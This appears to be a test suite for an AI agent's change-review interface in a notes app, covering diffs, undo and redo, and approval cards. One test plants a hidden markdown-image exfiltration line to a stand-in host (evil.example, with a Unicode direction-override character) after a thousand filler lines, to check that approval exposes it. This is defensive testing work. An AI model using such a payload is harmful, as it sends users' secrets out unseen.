// The agent's changes: approved, displayed, undone.
import assert from "node:assert/strict";
import { Stage, done, picture, say, until } from "./stage.mjs";

const NOTE = "Garden/Compost.md";

/** A turn's changes are in one card, with counts and diffs; the card undoes and redoes them. */
export async function changes_are_shown_and_undone(set) {
  const stage = await Stage.set(set);
  const tab = await stage.open();
  const before = await stage.daemon.read(NOTE);
  stage.model.next(
    (turn) => turn.call("edit_file", { path: NOTE, old_text: "Turn at Christmas.", new_text: "Turn at Christmas.\n3. Water it well." }),
    (turn) => turn.call("write_file", { path: "Garden/Watering.md", content: "# Watering\n\nTwice a week.\n" }),
    (turn) => turn.text("The heap is to be watered now, and [[Watering]] says how often."),
  );
  await say(tab, "Add watering to my compost plan");
  await tab.locator(".vs-list").getByText("says how often").waitFor();
  await done(tab);
  const card = tab.locator(".vs-changes");
  await until("count", () => card.count(), (count) => count === 1);
  await card.getByText("2 changes").waitFor();
  await card.locator(".vs-added").first().waitFor();
  await until("count", () => card.locator(".vs-row").count(), (count) => count === 2);
  // The card is at the end of its turn.
  assert.equal(await tab.locator(".vs-entry").last().evaluate((one) => one.classList.contains("vs-changes")), true);
  await card.getByRole("button", { name: `Diff of ${NOTE}` }).click();
  await until("words", () => card.locator(".vs-diff").innerText(), (text) => /Water it well/.test(text));
  const call = tab.locator(".vs-call").first();
  await call.locator("summary").click();
  await until("words", () => call.locator(".vs-call-body").innerText(), (text) => /Arguments[\s\S]*Old text/.test(text));
  assert.equal(await call.locator("dd .internal-link").innerText(), NOTE);
  await call.getByRole("button", { name: "Show as JSON" }).click();
  assert.match(await call.locator(".vs-call-json pre").innerText(), /"old_text"/);
  await until("count", () => call.locator(".vs-diff").count(), (count) => count === 1);
  await picture(tab, "call-light");
  await call.locator("summary").click();
  await picture(tab, "changes-light");

  assert.notEqual(await stage.daemon.read(NOTE), before);
  await card.getByRole("button", { name: "Undo all of these changes" }).click();
  await card.getByText("Undone: 2 changes").waitFor();
  assert.equal(await stage.daemon.read(NOTE), before);
  await assert.rejects(stage.daemon.read("Garden/Watering.md"));
  await card.getByRole("button", { name: "Redo all of these changes" }).click();
  await until("redo", () => card.locator(".vs-card-title").innerText(), (text) => text === "2 changes");
  assert.match(await stage.daemon.read(NOTE), /Water it well/);
  await stage.close(tab);

  const wide = await stage.open({ width: 900, height: 700, dark: true });
  await wide.locator(".vs-changes .vs-added").first().waitFor();
  await wide.locator(".vs-changes").getByRole("button", { name: `Diff of ${NOTE}` }).click();
  await picture(wide, "changes-wide-dark");
  await stage.close(wide);
  await stage.strike();
}

/** An undo that would lose later changes is refused with the reason, and can be confirmed. */
export async function an_undo_that_would_lose_something_asks(set) {
  const stage = await Stage.set(set);
  const tab = await stage.open();
  stage.model.next(
    (turn) => turn.call("write_file", { path: "List.md", content: "one\ntwo\n" }),
    (turn) => turn.text("Written."),
  );
  await say(tab, "Write a list");
  await tab.locator(".vs-list").getByText("Written.").waitFor();
  await done(tab);
  await stage.daemon.write("List.md", "one\ntwo\nthree of my own\n");
  const card = tab.locator(".vs-changes");
  await card.locator(".vs-undo").click();
  const problem = card.locator(".vs-card-problem");
  await problem.getByRole("button", { name: "Undo anyway" }).waitFor();
  await until("words", () => problem.innerText(), (text) => /List\.md/.test(text));
  await until("words", () => problem.locator(".vs-diff").innerText(), (text) => /three of my own/.test(text));
  assert.match(await stage.daemon.read("List.md"), /three of my own/);
  await picture(tab, "undo-refused-light");
  await problem.getByRole("button", { name: "Undo anyway" }).click();
  await tab.locator(".page-dialog").getByRole("button", { name: "Cancel" }).click();
  assert.match(await stage.daemon.read("List.md"), /three of my own/);
  await problem.getByRole("button", { name: "Undo anyway" }).click();
  await tab.locator(".page-dialog").getByRole("button", { name: "Undo anyway" }).click();
  await card.getByText("Undone: 1 change").waitFor();
  await assert.rejects(stage.daemon.read("List.md"));
  await stage.close(tab);
  await stage.strike();
}

/** An approval names all active content, and shows on demand the changes that are not shown at first. */
export async function all_of_a_question_can_be_seen(set) {
  const stage = await Stage.set(set);
  const tab = await stage.open();
  const evil = "![x](https://evil.example/?d=SE\u202eCRET)";
  const content = `![logo](https://example.com/logo.png)\n${"a line\n".repeat(1_000)}${evil}\n`;
  stage.model.next((turn) => turn.call("write_file", { path: "Shown.md", content }), (turn) => turn.text("It is written."));
  await say(tab, "Write what the page says");
  const card = tab.locator(".vs-approval");
  await card.waitFor();
  const why = await card.locator(".vs-approval-why li").allInnerTexts();
  assert.equal(why.length, 2, why.join("\n"));
  assert.match(why[0], /line 1: .*https:\/\/example\.com\/logo\.png/);
  assert.match(why[1], /line 1002: .*https:\/\/evil\.example/);
  assert.equal(await card.locator(".vs-added").innerText(), "+1002");
  await picture(tab, "approval-long-light");
  const all = card.getByRole("button", { name: /^Show all \(\d+ lines more\)$/ });
  await all.click();
  await all.waitFor({ state: "detached" });
  // The diff view draws the first lines, and the others on demand.
  for (const more = card.getByRole("button", { name: /^Show \d+ more lines$/ }); (await more.count()) > 0; ) await more.first().click();
  const last = await card.locator(".vs-diff-line .vs-diff-text").last().innerText();
  assert.equal(last, evil.replace("\u202e", "\\u{202e}"));
  assert.equal(await card.locator(".vs-diff-line").count(), 1002);
  await card.getByRole("button", { name: "Reject" }).click();
  await tab.locator(".vs-list").getByText("It is written.").waitFor();
  await done(tab);
  assert.equal(await stage.daemon.read("Shown.md").catch(() => null), null);
  await stage.close(tab);
  await stage.strike();
}

/**
 * A change that needs approval is shown in a card with its diff; an answer in another client removes the
 * card.
 */
export async function an_agreement_is_asked_for(set) {
  const stage = await Stage.set(set);
  await stage.daemon.command("mode", "ask");
  const tab = await stage.open();
  const other = await stage.open({ width: 700 });
  const write = (text) => (turn) => turn.call("edit_file", { path: "Inbox.md", old_text: "# Inbox", new_text: text });
  stage.model.next(write("# Inbox of Ana"), (turn) => turn.text("Renamed the heading."));
  await say(tab, "Put my name into the inbox");
  const card = tab.locator(".vs-approval");
  await card.waitFor();
  await until("words", () => card.locator(".vs-diff").innerText(), (text) => /Inbox of Ana/.test(text));
  await until("state", () => tab.locator(".vs-state").innerText(), (text) => /Waiting for you/.test(text));
  await other.locator(".vs-approval").waitFor();
  await picture(tab, "approval-light");
  await card.getByRole("button", { name: "Allow once" }).focus();
  await tab.keyboard.press("Enter");
  await tab.locator(".vs-list").getByText("Renamed the heading.").waitFor();
  await other.locator(".vs-approval").waitFor({ state: "detached" });
  await done(tab);
  assert.match(await stage.daemon.read("Inbox.md"), /# Inbox of Ana/);

  stage.model.next(write("# Nothing"), (turn) => turn.text("Then not."));
  // The heading that the edit replaces is still in the note, as the beginning of the line.
  await say(tab, "Empty it");
  await tab.locator(".vs-approval").waitFor();
  await other.locator(".vs-approval").getByLabel("Why not (optional)").fill("only the old ones");
  await other.locator(".vs-approval").getByRole("button", { name: "Reject" }).click();
  await tab.locator(".vs-approval").waitFor({ state: "detached" });
  await tab.locator(".vs-list").getByText("Then not.").waitFor();
  await tab.locator(".vs-call-state").getByText("you refused").waitFor();
  await done(tab);
  assert.match(await stage.daemon.read("Inbox.md"), /# Inbox of Ana/);
  await until("count", () => tab.locator(".vs-call.is-failed").count(), (count) => count === 1);

  const folder = (path) => (turn) => turn.call("write_file", { path, content: "x\n" });
  stage.model.next(folder("Garden/One.md"), folder("Garden/Two.md"), (turn) => turn.text("Both are there."));
  await say(tab, "Two notes for the garden");
  const always = tab.locator(".vs-approval").getByRole("button", { name: "Always for this folder: write_file in Garden", exact: true });
  assert.equal(await always.innerText(), "Always for this folder");
  await always.click();
  await tab.locator(".vs-list").getByText("Both are there.").waitFor();
  await done(tab);
  assert.equal(await stage.daemon.read("Garden/Two.md"), "x\n");
  await stage.close(other);
  await stage.close(tab);
  await stage.strike();
}
